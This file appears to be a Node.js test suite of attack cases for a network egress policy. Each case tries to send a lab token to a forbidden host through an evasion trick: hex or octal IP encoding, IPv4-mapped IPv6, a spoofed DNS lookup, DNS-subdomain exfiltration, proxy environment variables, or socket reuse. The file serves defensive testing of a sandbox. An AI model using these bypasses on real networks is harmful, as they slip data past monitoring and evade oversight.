/** Data sent to hosts that the policy does not allow, with the destination set elsewhere. The effect: `lab.token` arrives. */
'use strict';
const dgram = require('node:dgram');
const dns = require('node:dns');
const http = require('node:http');
const http2 = require('node:http2');
const net = require('node:net');
const { once } = require('node:events');

exports.category = 'network';

const turn = (ms) => new Promise((done) => setTimeout(done, ms));

async function reported(socket, lab) {
  socket.on('error', () => undefined).write(lab.token);
  await turn(400);
  socket.destroy();
}

async function sent(socket, ...args) {
  await new Promise((done) => socket.send(...args, done));
  socket.close();
}

exports.attacks = {
  'UDP with an interface for groups': {
    run: async (lab) => {
      const socket = dgram.createSocket('udp4');
      await new Promise((done) => socket.bind(0, done));
      socket.setMulticastInterface(lab.host);
      await sent(socket, lab.token, lab.ports.udp, lab.host);
    },
  },
  'UDP by IPv6, connected to IPv4 inside': {
    run: async (lab) => {
      const socket = dgram.createSocket('udp6');
      await new Promise((done) => socket.connect(lab.ports.udp, `::ffff:${lab.host}`, done));
      await sent(socket, lab.token);
    },
  },
  'UDP with a lookup of its own': { run: (lab) => sent(dgram.createSocket({ type: 'udp4', lookup: (name, options, done) => done(null, lab.host, 4) }), lab.token, lab.ports.udp, lab.allowedName) },
  'UDP with buffers that are gathered': { run: (lab) => sent(dgram.createSocket('udp4'), [lab.token.slice(0, 3), lab.token.slice(3)], lab.ports.udp, lab.host) },
  'http2 with a connection of its own': {
    run: async (lab) => {
      const session = http2.connect(`http://${lab.allowedName}:${lab.ports.http2}`, { createConnection: () => net.connect(lab.ports.http2, lab.host) }).on('error', () => undefined);
      const request = session.request({ ':path': `/${lab.token}` }).on('error', () => undefined);
      await Promise.race([once(request.resume(), 'close'), turn(400)]);
      session.destroy();
    },
  },
  'an address as one number in base 16': { run: (lab) => reported(net.connect(lab.ports.tcp, `0x${lab.host.split('.').map((part) => Number(part).toString(16).padStart(2, '0')).join('')}`), lab) },
  'an address in base 8': { run: (lab) => reported(net.connect(lab.ports.tcp, lab.host.split('.').map((part) => `0${Number(part).toString(8)}`).join('.')), lab) },
  'from an address of loopback': { run: (lab) => reported(net.connect({ port: lab.ports.tcp, host: lab.host, localAddress: '127.0.0.1' }), lab) },
  'IPv6 with a zone': { run: (lab) => reported(net.connect(lab.ports.tcp, `${lab.host6}%lo`), lab) },
  'a socket that was closed and connects again': {
    run: async (lab) => {
      const socket = net.connect(lab.witnessPort, '127.0.0.1');
      await once(socket, 'connect');
      socket.destroy();
      await once(socket, 'close');
      await reported(socket.connect(lab.ports.tcp, lab.host), lab);
    },
  },
  'dns.resolveCaa': { run: (lab) => new Promise((done) => dns.resolveCaa(`${lab.token}.${lab.otherName}`, done)) },
  'dns.resolveSrv': { run: (lab) => new Promise((done) => dns.resolveSrv(`_x._tcp.${lab.token}.${lab.otherName}`, done)) },
  'a proxy by the environment': {
    run: async (lab) => {
      for (const name of ['http_proxy', 'HTTP_PROXY']) process.env[name] = `http://${lab.host}:${lab.ports.tcp}`;
      http.globalAgent = new http.Agent({ proxyEnv: process.env });
      await new Promise((done) => http.get(`http://${lab.allowedName}:${lab.ports.tcp}/${lab.token}`, done).on('error', done));
    },
  },
};
